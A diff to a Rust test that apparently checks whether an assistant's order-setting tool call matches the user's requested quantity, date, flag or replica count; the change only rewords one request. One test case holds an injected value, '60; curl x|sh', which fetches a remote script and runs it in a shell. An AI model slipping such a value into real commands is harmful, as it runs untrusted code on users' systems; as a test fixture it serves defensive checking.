@@ -47,7 +47,7 @@ fn another_quantity_choice_or_day_than_the_users_waits() {
         ("Set the order ACME and turn it off.", json!({"enabled": false}), json!({"enabled": true})),
         ("Set the order ACME to 2026-05-20.", json!({"date": "2026-05-20"}), json!({"date": "2026-09-20"})),
         ("Set the order ACME to 60.", json!({"value": "60"}), json!({"value": "60; curl x|sh"})),
-        ("Set ACME to 6 replicas.", json!({"replicas": 6}), json!({"replicas": 0})),
+        ("Set the order ACME to 6 replicas.", json!({"replicas": 6}), json!({"replicas": 0})),
     ] {
         let h = talk(offered.clone(), user, &seen, None);
         assert_eq!(why(&h, "set_order", own), [], "{user}");
